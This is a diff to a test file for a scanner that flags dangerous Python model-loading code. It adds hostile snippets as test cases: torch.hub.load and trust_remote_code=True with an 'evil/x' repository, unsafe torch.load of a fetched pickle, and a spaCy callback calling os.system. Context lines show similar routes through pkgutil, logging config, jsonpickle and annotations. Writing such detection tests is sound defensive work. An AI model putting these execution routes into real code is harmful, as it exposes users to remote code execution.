@@ -288,6 +288,11 @@ describe('code of a model that takes what it runs from elsewhere blocks, and its
     ['names in texts', 'import pkgutil\npkgutil.resolve_name("os:system")("id")', 'import pkgutil\npkgutil.resolve_name("math:sqrt")(2)'],
     ['settings of logging', 'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "os.system", "command": "id"}}})', 'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "logging.StreamHandler"}}})'],
     ['jsonpickle', 'import jsonpickle\njsonpickle.decode(\'{"py/object": "os.system"}\')', 'import json\njson.loads(\'{"a": 1}\')'],
+    ['a hub', 'import torch\nm = torch.hub.load("evil/x", "y")', 'import torch\nm = torch.hub.load("pytorch/vision", "resnet18")'],
+    ['code of another repository', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=True)', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=False)'],
+    ['modules in weights', 'import sys\nsys.path.insert(0, "weights.bin")', 'import sys\nsys.path.insert(0, "src")'],
+    ['a pickle that is fetched', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"), weights_only=False)', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"))'],
+    ['a function that spaCy calls', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    os.system("id")', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    print("id")'],
     ['an annotation', 'x: __import__("os").system("id") = 1', 'x: int = 1'],
   ])('%s', (_, hostile, honest) => {
     expect(['critical', 'high']).toContain(worst(hostile, 'modeling_x.py'));
